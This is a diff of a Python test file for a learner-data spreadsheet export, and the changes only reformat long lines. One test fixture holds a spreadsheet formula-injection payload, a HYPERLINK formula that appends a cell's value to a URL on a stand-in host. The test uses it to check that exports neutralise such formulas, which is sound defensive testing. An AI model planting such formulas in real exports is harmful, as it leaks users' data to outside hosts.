@@ -12,7 +12,11 @@ from openpyxl import load_workbook
 from exports import Column, escape_formula, export_response, to_csv, to_xlsx
 
 HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
-COLUMNS = [Column("name", gettext_lazy("Name")), Column("score", gettext_lazy("Status")), Column("at", gettext_lazy("Enrolled at"))]
+COLUMNS = [
+    Column("name", gettext_lazy("Name")),
+    Column("score", gettext_lazy("Status")),
+    Column("at", gettext_lazy("Enrolled at")),
+]
 CASABLANCA = zoneinfo.ZoneInfo("Africa/Casablanca")
 
 
@@ -39,7 +43,9 @@ def test_xlsx_cells_are_strings_dates_are_dates_and_arabic_reads_right_to_left()
     """In the XLSX the hostile name is a string cell holding the exact text (not a formula), a date
     is a date cell, the headers are Arabic and the sheet is right to left."""
     rows = [{"name": HOSTILE, "score": 7, "at": datetime.date(2026, 3, 1)}]
-    sheet = load_workbook(io.BytesIO(to_xlsx(COLUMNS, rows, language="ar", sheet_title=gettext_lazy("Learners")))).active
+    sheet = load_workbook(
+        io.BytesIO(to_xlsx(COLUMNS, rows, language="ar", sheet_title=gettext_lazy("Learners")))
+    ).active
     assert [c.value for c in sheet[1]] == ["الاسم", "الحالة", "تاريخ التسجيل"]
     name, score, at = sheet[2]
     assert name.data_type == "s" and name.value == HOSTILE and name.quotePrefix
